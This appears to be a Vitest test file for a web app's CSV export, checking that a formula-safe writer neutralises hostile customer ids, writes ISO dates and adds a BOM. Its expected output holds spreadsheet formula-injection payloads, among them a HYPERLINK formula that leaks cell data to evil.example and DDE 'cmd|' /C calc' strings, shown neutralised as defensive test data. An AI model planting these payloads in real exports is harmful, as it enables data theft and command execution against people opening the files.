// @vitest-environment happy-dom
// The UI's CSV downloads go through the project's one formula-safe writer: a drill-down table with
// hostile customer ids downloads them neutralised, numbers (negative ones too) stay numbers.
import { cleanup, fireEvent, screen } from '@testing-library/react';
import { DateDay, Table, tableFromArrays, TimestampMillisecond, vectorFromArray } from 'apache-arrow';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { DrillDownTools } from '../src/components/DrillDownTools.tsx';
import { csvBlob, tableToCsv } from '../src/components/download.ts';
import { HOSTILE_TEXTS, neutralised } from '../../core/test/csv/hostile.ts';
import { renderWith } from './fakeCore.tsx';

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

const hostileTable = () =>
  tableFromArrays({
    customer_id: [...HOSTILE_TEXTS],
    revenue: Float64Array.from(HOSTILE_TEXTS, (_, index) => -1.5 * index),
  });

/** The file by hand: each payload behind a quote, quoted where RFC 4180 needs it; numbers as written. */
const EXPECTED_CSV = [
  'customer_id,revenue',
  `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",0`,
  `'+cmd|' /C calc'!A0,-1.5`,
  `'@SUM(1+1)*cmd,-3`,
  `'-2+3+cmd|' /C calc'!A0,-4.5`,
  `'\t=1+1,-6`,
  `"'\r=1+1",-7.5`,
  '',
].join('\r\n');

describe('CSV downloads', () => {
  it('tableToCsv neutralises formula text and keeps negative numbers as numbers', () => {
    expect(tableToCsv(hostileTable())).toBe(EXPECTED_CSV);
  });

  it('writes dates as YYYY-MM-DD and timestamps as ISO 8601, not as epoch milliseconds', () => {
    const table = new Table({
      first_order: vectorFromArray([new Date(Date.UTC(2024, 0, 2)), null], new DateDay()),
      last_seen: vectorFromArray([new Date(Date.UTC(2024, 5, 30, 23, 59, 1)), new Date(Date.UTC(2025, 0, 1))], new TimestampMillisecond()),
    });
    expect(tableToCsv(table)).toBe('first_order,last_seen\r\n2024-01-02,2024-06-30T23:59:01.000Z\r\n,2025-01-01T00:00:00.000Z\r\n');
  });

  it('the drill-down Download CSV button saves the neutralised file with a BOM', async () => {
    let saved: Blob | undefined;
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
      saved = blob as Blob;
      return 'blob:test';
    });
    renderWith(<DrillDownTools table={hostileTable()} fileName="members.csv" onClose={() => undefined} />);
    fireEvent.click(screen.getByRole('button', { name: /csv/i }));
    expect(saved).toBeDefined();
    const bytes = new Uint8Array(await saved!.arrayBuffer());
    expect(Array.from(bytes.subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.subarray(3))).toBe(EXPECTED_CSV);
    expect(await csvBlob('a\r\n').text()).toBe('\uFEFFa\r\n');
  });
});
